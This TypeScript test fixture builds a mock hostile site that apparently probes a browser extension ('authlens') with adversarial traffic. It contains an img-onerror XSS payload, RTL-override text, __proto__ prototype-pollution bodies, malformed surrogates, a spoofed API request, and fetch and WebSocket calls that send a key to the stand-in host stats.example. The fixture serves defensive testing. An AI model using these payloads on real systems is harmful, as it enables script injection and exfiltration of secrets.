import { json, page, type Site, script, serve } from './site.ts';

/** Runs, and leaves an element behind, wherever it is taken for markup. */
export const markup = '<hostile-element></hostile-element><img src=x onerror="globalThis.ran=1">';
/** RIGHT-TO-LEFT OVERRIDE and an isolate that never ends: what stands behind them reads backwards. */
export const turned = '\u202egnp\u2066';

/** How many requests `hostileSite` lets a page make that hold the key. */
export const hostileRequests = 9;

const attack = (key: string) => `
const key = ${JSON.stringify(key)};
const markup = ${JSON.stringify(markup)};
const turned = ${JSON.stringify(turned)};
const stats = 'https://stats.example/';
const name = markup + turned;
const post = (body, headers = []) => fetch(stats, { method: 'POST', body, headers });
const calls = {
  [name]: () => fetch(stats + name + '?__proto__=' + key + '&' + encodeURIComponent(name) + '=1'),
  constructor: () => fetch(stats, { headers: [['__proto__', key], ['constructor', key], ['x-' + 'n'.repeat(2000), key]] }),
  members: () => post('{"__proto__":{"polluted":"' + key + '"},"constructor":{"prototype":{"polluted":"' + key + '"}}}'),
  names: () => post(JSON.stringify({ [name]: key, ['l'.repeat(100_000)]: key })),
  surrogates: () => post('{"\\\\ud800\\\\udfff\\\\ud800":"' + key + '","\\\\u202e":"' + key + '"}'),
  form: () => post(new URLSearchParams([['__proto__[polluted]', key], [name, key]])),
  parts: () => {
    const form = new FormData();
    form.append(name, key);
    form.append('__proto__', new Blob([key]), name);
    return post(form);
  },
  answer: () => fetch('/config').then((response) => response.text()),
};
const talk = () => new Promise((resolve) => {
  const socket = new WebSocket('wss://stats.example/echo');
  socket.onopen = () => {
    socket.send('{"__proto__":{"polluted":"' + key + '"},"' + name.replaceAll('"', '') + '":1}');
    socket.send('\\ud800' + turned + key);
  };
  let heard = 0;
  socket.onmessage = () => ++heard === 2 && resolve();
});
// A request for the API that pretends to be one of the extension's own.
const pretend = () => fetch('https://sandbox.api.video/videos?spoof=' + encodeURIComponent(name) + '#authlens-1', {
  headers: { Authorization: 'Basic ' + btoa(turned.length + ':') },
}).catch(() => null);

Promise.allSettled([...Object.values(calls).map((call) => call()), talk(), pretend()]).then(() => {
  document.documentElement.dataset.state = 'done';
});
//# sourceURL=https://hostile.example/${encodeURIComponent(turned)}${turned}<b>.js
`;

/** A site, for hostile.example, that puts markup, turned text and names such as `__proto__` wherever a page can, beside a key. */
export function hostileSite({ key }: { key: string }): Site {
  return serve({
    '/': page('Hostile', ['/attack.js']),
    '/empty': page('Empty', []),
    '/attack.js': script(attack(key)),
    '/config': {
      ...json({}),
      headers: { 'X-Unseen': 'soft\u00adhyphen' },
      body: `{"__proto__":{"polluted":"${key}"},${JSON.stringify(markup + turned)}:"${key}"}`,
    },
  });
}
